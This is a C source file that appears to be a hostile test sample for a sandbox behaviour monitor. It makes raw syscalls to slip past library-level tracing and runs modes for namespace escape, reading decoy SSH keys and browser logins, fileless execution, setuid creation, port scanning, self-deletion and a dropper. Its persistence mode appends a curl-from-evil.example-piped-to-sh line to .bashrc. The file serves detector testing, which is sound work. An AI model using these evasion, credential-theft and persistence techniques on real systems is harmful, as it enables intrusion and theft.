/* SPDX-License-Identifier: LGPL-2.1-or-later */
/* A hostile sample for the behaviour monitor: statically linked and making its syscalls with
 * the syscall instruction itself, so that no libc wrapper or preloaded library sees them (the
 * way firejail's --trace is walked around). Each mode does one thing a rule must catch:
 *
 *   sample-raw escape       mount, unshare, clone, init_module, bpf, ptrace of pid 1, mknod
 *   sample-raw canary HOME  reads the decoy SSH key and browser logins
 *   sample-raw fileless     copies itself into a memfd and executes that (mode "noop")
 *   sample-raw setuid FILE  creates FILE and sets its set-user-ID bit
 *   sample-raw scan N [P]   connects to N ports of 127.0.0.1 from P (default 1)
 *   sample-raw selfdelete   unlinks its own executable
 *   sample-raw persist HOME appends to HOME/.bashrc and writes an autostart entry
 *   sample-raw dropper DIR  writes DIR/payload, makes it executable, runs it
 *   sample-raw noop         exits 0 */
#ifndef _GNU_SOURCE
#define _GNU_SOURCE
#endif
#include <fcntl.h>
#include <linux/bpf.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>

static long raw(long nr, long a, long b, long c, long d, long e, long f)
{
#if defined(__x86_64__)
        long ret;
        register long r10 __asm__("r10") = d;
        register long r8 __asm__("r8") = e;
        register long r9 __asm__("r9") = f;

        __asm__ volatile("syscall"
                         : "=a"(ret)
                         : "a"(nr), "D"(a), "S"(b), "d"(c), "r"(r10), "r"(r8), "r"(r9)
                         : "rcx", "r11", "memory");
        return ret;
#else
        return syscall(nr, a, b, c, d, e, f);
#endif
}

#define R0(n)                raw(SYS_##n, 0, 0, 0, 0, 0, 0)
#define R1(n, a)             raw(SYS_##n, (long)(a), 0, 0, 0, 0, 0)
#define R2(n, a, b)          raw(SYS_##n, (long)(a), (long)(b), 0, 0, 0, 0)
#define R3(n, a, b, c)       raw(SYS_##n, (long)(a), (long)(b), (long)(c), 0, 0, 0)
#define R4(n, a, b, c, d)    raw(SYS_##n, (long)(a), (long)(b), (long)(c), (long)(d), 0, 0)
#define R5(n, a, b, c, d, e) raw(SYS_##n, (long)(a), (long)(b), (long)(c), (long)(d), (long)(e), 0)

static void say(const char *s)
{
        R3(write, 1, s, strlen(s));
}

static void join(char *out, size_t n, const char *a, const char *b)
{
        size_t la = strlen(a), lb = strlen(b);

        if (la + lb + 1 > n)
                la = lb = 0;
        memcpy(out, a, la);
        memcpy(out + la, b, lb);
        out[la + lb] = 0;
}

static int mode_escape(void)
{
        union bpf_attr attr;

        memset(&attr, 0, sizeof(attr));
        R5(mount, "none", "/tmp", "tmpfs", 0, 0);
        R1(unshare, 0x10000000 /* CLONE_NEWUSER */);
        /* a fork into a new user namespace: the child, should one be made, leaves at once */
        if (R5(clone, 0x10000000 /* CLONE_NEWUSER */ | 17 /* SIGCHLD */, 0, 0, 0, 0) == 0)
                R1(exit_group, 0);
        R3(init_module, "\177ELF", 4, "");
        R3(bpf, BPF_PROG_LOAD, &attr, sizeof(attr));
        R4(ptrace, 16 /* PTRACE_ATTACH */, 1, 0, 0);
        R4(mknodat, AT_FDCWD, "/tmp/airlock-sda", S_IFBLK | 0600, 0x800);
        say("escape attempted\n");
        return 0;
}

static int read_file(const char *path)
{
        char buf[256];
        long fd = R4(openat, AT_FDCWD, path, O_RDONLY, 0);

        if (fd < 0)
                return -1;
        R3(read, fd, buf, sizeof(buf));
        R1(close, fd);
        return 0;
}

static int mode_canary(const char *home)
{
        char p[512];

        join(p, sizeof(p), home, "/.ssh/id_rsa");
        read_file(p);
        join(p, sizeof(p), home, "/.mozilla/firefox/airlock.default/logins.json");
        read_file(p);
        say("canaries read\n");
        return 0;
}

static int mode_fileless(const char *self)
{
        char buf[65536];
        long in = R4(openat, AT_FDCWD, self, O_RDONLY, 0);
        long mfd = R2(memfd_create, "payload", 0);
        char *const argv[] = {"payload", "noop", 0};
        char *const envp[] = {0};
        long n;

        if (in < 0 || mfd < 0)
                return 2;
        while ((n = R3(read, in, buf, sizeof(buf))) > 0)
                R3(write, mfd, buf, n);
        R5(execveat, mfd, "", argv, envp, AT_EMPTY_PATH);
        return 3;
}

static int mode_setuid(const char *path)
{
        long fd = R4(openat, AT_FDCWD, path, O_WRONLY | O_CREAT | O_TRUNC, 0755);

        R3(write, fd, "x\n", 2);
        R1(close, fd);
        R4(fchmodat, AT_FDCWD, path, 04755, 0);
        return 0;
}

static int mode_scan(int n, int first)
{
        for (int port = first; port < first + n && port < 65536; port++) {
                struct sockaddr_in sa = {.sin_family = AF_INET, .sin_port = htons((uint16_t)port)};
                long s = R3(socket, AF_INET, SOCK_STREAM, 0);

                sa.sin_addr.s_addr = htonl(0x7f000001);
                R3(connect, s, &sa, sizeof(sa));
                R1(close, s);
        }
        return 0;
}

static int mode_selfdelete(void)
{
        char self[512];
        long n = R3(readlink, "/proc/self/exe", self, sizeof(self) - 1);

        if (n <= 0)
                return 2;
        self[n] = 0;
        return R1(unlink, self) == 0 ? 0 : 1;
}

static int append(const char *path, const char *text, int flags)
{
        long fd = R4(openat, AT_FDCWD, path, O_WRONLY | O_CREAT | flags, 0644);

        if (fd < 0)
                return -1;
        R3(write, fd, text, strlen(text));
        R1(close, fd);
        return 0;
}

static int mode_persist(const char *home)
{
        char p[512];

        join(p, sizeof(p), home, "/.bashrc");
        append(p, "curl -s http://evil.example/x | sh\n", O_APPEND);
        join(p, sizeof(p), home, "/.config");
        R2(mkdir, p, 0755);
        join(p, sizeof(p), home, "/.config/autostart");
        R2(mkdir, p, 0755);
        join(p, sizeof(p), home, "/.config/autostart/updater.desktop");
        append(p, "[Desktop Entry]\nExec=/tmp/updater\n", O_TRUNC);
        return 0;
}

static int mode_dropper(const char *dir, const char *self)
{
        char payload[512], buf[65536];
        struct sockaddr_in sa = {.sin_family = AF_INET, .sin_port = htons(80)};
        long s = R3(socket, AF_INET, SOCK_STREAM, 0), in, out, n;
        char *const argv[] = {payload, "noop", 0};
        char *const envp[] = {0};

        /* The "download": a connection attempt, then a file written from what came back. */
        sa.sin_addr.s_addr = htonl(0x5db8d822); /* 93.184.216.34 */
        R3(connect, s, &sa, sizeof(sa));
        R1(close, s);
        join(payload, sizeof(payload), dir, "/payload");
        in = R4(openat, AT_FDCWD, self, O_RDONLY, 0);
        out = R4(openat, AT_FDCWD, payload, O_WRONLY | O_CREAT | O_TRUNC, 0644);
        if (in < 0 || out < 0)
                return 2;
        while ((n = R3(read, in, buf, sizeof(buf))) > 0)
                R3(write, out, buf, n);
        R1(close, out);
        R2(chmod, payload, 0755);
        R3(execve, payload, argv, envp);
        return 3;
}

int main(int argc, char **argv)
{
        const char *mode = argc > 1 ? argv[1] : "noop";
        const char *arg = argc > 2 ? argv[2] : "/tmp";

        if (strcmp(mode, "escape") == 0)
                return mode_escape();
        if (strcmp(mode, "canary") == 0)
                return mode_canary(arg);
        if (strcmp(mode, "fileless") == 0)
                return mode_fileless("/proc/self/exe");
        if (strcmp(mode, "setuid") == 0)
                return mode_setuid(arg);
        if (strcmp(mode, "scan") == 0)
                return mode_scan(argc > 2 ? (int)strtol(arg, 0, 10) : 20,
                                 argc > 3 ? (int)strtol(argv[3], 0, 10) : 1);
        if (strcmp(mode, "selfdelete") == 0)
                return mode_selfdelete();
        if (strcmp(mode, "persist") == 0)
                return mode_persist(arg);
        if (strcmp(mode, "dropper") == 0)
                return mode_dropper(arg, "/proc/self/exe");
        return 0;
}
